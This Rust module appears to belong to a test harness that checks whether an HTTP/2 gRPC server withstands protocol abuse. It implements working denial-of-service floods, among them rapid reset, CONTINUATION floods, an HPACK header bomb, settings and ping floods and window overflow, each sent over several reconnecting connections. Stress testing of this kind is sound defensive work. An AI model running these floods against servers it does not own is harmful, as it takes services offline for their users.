//! Attacks with frames of HTTP/2: floods, and what the protocol forbids. The server must end such a connection, or bear it at
//! little cost. Knows nothing of calls.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Attack;
use super::child::Target;
use super::raw::{END_HEADERS, call_headers, frame, header, indexed_header, kind, opening};

/// The number of connections.
const CONNECTIONS: usize = 8;

/// The frames that are sent with one write.
const FRAMES_PER_WRITE: u32 = 100;

/// How long the attacker waits before it connects again.
const PAUSE: Duration = Duration::from_millis(5);

const PATH: &str = "/headwater.v1.TrackingService/RecordSale";

/// The error code NO_ERROR, or CANCEL in a RST_STREAM.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new("rapid-reset", "calls that are reset at once", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |turn| {
            let streams = (0..FRAMES_PER_WRITE).map(|number| 2 * (turn * FRAMES_PER_WRITE + number) + 1);
            streams.flat_map(reset_call).collect()
        }))
    }),
    Attack::new("made-you-reset", "calls with a wrong frame, so that the server resets them", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |turn| {
            let streams = (0..FRAMES_PER_WRITE).map(|number| 2 * (turn * FRAMES_PER_WRITE + number) + 1);
            streams.flat_map(call_to_reset).collect()
        }))
    }),
    Attack::new("continuation-flood", "headers that never end", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |turn| {
            let first = if turn == 0 { frame(kind::HEADERS, 0, 1, &call_headers(PATH)) } else { Vec::new() };
            let mut block = Vec::new();
            header(&mut block, "x-more", "and more");
            [first, frame(kind::CONTINUATION, 0, 1, &block).repeat(FRAMES_PER_WRITE as usize)].concat()
        }))
    }),
    Attack::new("settings-flood", "settings that must be acknowledged", |target| {
        // SETTINGS_INITIAL_WINDOW_SIZE of 65,535.
        Box::pin(flood(target, FRAMES_PER_WRITE, |_| many(&frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))))
    }),
    Attack::new("ping-flood", "pings that must be answered", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |_| many(&frame(kind::PING, 0, 0, &[0; 8]))))
    }),
    Attack::new("empty-data", "data without bytes", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |turn| {
            let first = if turn == 0 { frame(kind::HEADERS, END_HEADERS, 1, &call_headers(PATH)) } else { Vec::new() };
            [first, many(&frame(kind::DATA, 0, 1, &[]))].concat()
        }))
    }),
    Attack::new("priority-flood", "priorities of streams that do not exist", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |turn| {
            many(&frame(kind::PRIORITY, 0, 2 * turn + 3, &[0, 0, 0, 0, 16]))
        }))
    }),
    Attack::new("window-overflow", "window updates beyond 2^31", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |_| {
            many(&frame(kind::WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()))
        }))
    }),
    Attack::new("header-bomb", "headers of one byte each that stand for 4,000", |target| {
        Box::pin(flood(target, 1, bomb))
    }),
    Attack::new("unknown-frames", "frames of unknown kinds", |target| {
        Box::pin(flood(target, FRAMES_PER_WRITE, |_| many(&frame(0xee, 0xff, 1, &[0; 64]))))
    }),
    Attack::new("rubbish", "random bytes after HTTP/2's first bytes", |target| {
        Box::pin(flood(target, 1, |_| std::iter::repeat_with(|| fastrand::u8(..)).take(4_096).collect()))
    }),
];

fn many(frame: &[u8]) -> Vec<u8> {
    frame.repeat(FRAMES_PER_WRITE as usize)
}

fn reset_call(stream: u32) -> Vec<u8> {
    let headers = frame(kind::HEADERS, END_HEADERS, stream, &call_headers(PATH));
    [headers, frame(kind::RST_STREAM, 0, stream, &CANCEL)].concat()
}

/// A call with a window update of nothing, which is an error of the stream.
fn call_to_reset(stream: u32) -> Vec<u8> {
    let headers = frame(kind::HEADERS, END_HEADERS, stream, &call_headers(PATH));
    [headers, frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
}

/// A call with one large header, which the next calls repeat many times by its index.
fn bomb(turn: u32) -> Vec<u8> {
    let mut block = call_headers(PATH);
    if turn == 0 {
        indexed_header(&mut block, "x-bomb", &"a".repeat(3_900));
    } else {
        // The newest header of the connection's table.
        block.extend([0x80 | 62].repeat(4_000));
    }
    frame(kind::HEADERS, END_HEADERS, 2 * turn + 1, &block)
}

/// Sends what `make` gives for each turn, on several connections, until each is ended. Then it begins again. What the server sends is
/// read and dropped.
async fn flood(
    target: Target,
    frames_per_turn: u32,
    make: impl Fn(u32) -> Vec<u8> + Send + Sync + Copy + 'static,
) -> anyhow::Result<()> {
    let mut tasks = JoinSet::new();
    for place in 0..CONNECTIONS {
        let target = target.clone();
        tasks.spawn(async move {
            while target.is_attacked() {
                if let Ok(socket) = target.dial(place).await {
                    send(&target, socket, frames_per_turn, make).await;
                }
                target.tally.ended();
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    tasks.join_all().await;
    std::future::pending().await
}

/// Sends on one connection until it is ended.
async fn send(target: &Target, socket: TcpStream, frames_per_turn: u32, make: impl Fn(u32) -> Vec<u8>) {
    let (mut reading, mut writing) = socket.into_split();
    let reader = tokio::spawn(async move {
        let mut sink = vec![0; 16 * 1024];
        while reading.read(&mut sink).await.is_ok_and(|read| read > 0) {}
    });
    let mut sending = writing.write_all(&opening()).await;
    let mut turn = 0;
    while sending.is_ok() && target.is_attacked() && !reader.is_finished() {
        sending = writing.write_all(&make(turn)).await;
        target.tally.sent(frames_per_turn.into());
        turn += 1;
    }
    reader.abort();
}
